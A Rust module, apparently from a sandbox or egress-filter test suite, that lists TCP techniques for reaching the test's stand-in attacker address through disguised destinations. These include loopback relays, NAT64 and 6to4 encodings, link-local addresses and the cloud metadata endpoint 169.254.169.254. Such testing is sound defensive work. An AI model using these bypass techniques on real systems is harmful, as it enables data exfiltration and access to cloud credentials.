//! TCP to addresses that mean something else than they say: this machine, this link, a translator.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::call::{at, connect, connected, inet, mapped, open_stream, relay_port, send, wait};
use super::{Aid, Aim, Failure, INET, Medium, Technique, ip};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, INSIDE, INSIDE_LINK};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("loopback4", "TCP to a relay on 127.0.0.1", "37", INET, |a| {
        relayed(a, Ipv4Addr::LOCALHOST.into())
    })
    .aided(RELAY),
    Technique::wire("loopback6", "TCP to a relay on ::1", "37", INET, |a| {
        relayed(a, Ipv6Addr::LOCALHOST.into())
    })
    .aided(RELAY),
    Technique::wire("loopback-other", "TCP to a relay on 127.1.2.3", "37", INET, |a| {
        relayed(a, Ipv4Addr::new(127, 1, 2, 3).into())
    })
    .aided(RELAY),
    Technique::wire("unspecified4", "TCP to 0.0.0.0, which is this machine", "3", INET, |a| {
        relayed(a, Ipv4Addr::UNSPECIFIED.into())
    })
    .aided(RELAY),
    Technique::wire("unspecified6", "TCP to ::, which is this machine", "3", INET, |a| {
        relayed(a, Ipv6Addr::UNSPECIFIED.into())
    })
    .aided(RELAY),
    Technique::wire("unspecified-mapped", "TCP to ::ffff:0.0.0.0", "3", INET, |a| {
        relayed(a, mapped(Ipv4Addr::UNSPECIFIED.into()))
    })
    .aided(RELAY),
    Technique::wire("loopback-mapped", "TCP to ::ffff:127.0.0.1", "2 37", INET, |a| {
        relayed(a, mapped(Ipv4Addr::LOCALHOST.into()))
    })
    .aided(RELAY),
    Technique::wire("own-address", "TCP to a relay on the machine's address", "37", INET, |a| {
        relayed(a, INSIDE)
    })
    .aided(RELAY),
    Technique::wire("nat64", "TCP to 64:ff9b::a.b.c.d", "2", INET, |a| {
        ip::tcp(a, translated([0x64, 0xff9b, 0, 0, 0, 0], 6), 443)
    }),
    Technique::wire("6to4", "TCP to 2002:aabb:ccdd::1", "2", INET, |a| {
        ip::tcp(a, translated([0x2002, 0, 0, 0, 0, 0], 1), 443)
    }),
    Technique::wire("v4-compatible", "TCP to ::a.b.c.d", "2", INET, |a| {
        ip::tcp(a, translated([0; 6], 6), 443)
    }),
    Technique::wire("link-local", "TCP to fe80::66 on a named interface", "1 16", INET, link_local),
    Technique::wire("metadata", "TCP to 169.254.169.254", "1", INET, |a| {
        ip::tcp(a, Ipv4Addr::new(169, 254, 169, 254).into(), 80)
    }),
];

fn relayed(aim: &Aim, ip: IpAddr) -> Result<(), Failure> {
    let fd = open_stream(ip, 0)?;
    connect(aim, &fd, ip, relay_port(&aim.token))?;
    send(aim, &fd)?;
    // The relay closes when it has passed the data on.
    wait(aim, &fd, libc::POLLIN, "relay")
}

/// The attacker's IPv4 address inside an IPv6 one, from this word on.
fn translated(mut words: [u16; 6], from: usize) -> IpAddr {
    let IpAddr::V4(v4) = ATTACKER else { return ATTACKER };
    let [a, b, c, d] = v4.octets().map(u16::from);
    let inner = [a << 8 | b, c << 8 | d];
    if from == 1 {
        words[1..3].copy_from_slice(&inner);
        return Ipv6Addr::from([words[0], words[1], words[2], 0, 0, 0, 0, 1]).into();
    }
    let [a, b, c, d, e, f] = words;
    Ipv6Addr::from([a, b, c, d, e, f, inner[0], inner[1]]).into()
}

fn link_local(aim: &Aim) -> Result<(), Failure> {
    let fd = open_stream(Ipv6Addr::UNSPECIFIED.into(), 0)?;
    let index = nix::net::if_::if_nametoindex(INSIDE_LINK).map_err(at("if_nametoindex"))?;
    let mut address = inet(Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0x66).into(), 443);
    address[24..28].copy_from_slice(&index.to_ne_bytes());
    match attempt::connect(&fd, &address) {
        Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => connected(aim, &fd)?,
        other => other.map_err(at("connect"))?,
    }
    send(aim, &fd)
}

const RELAY: Aid = Aid::Heard(Medium::Loopback);
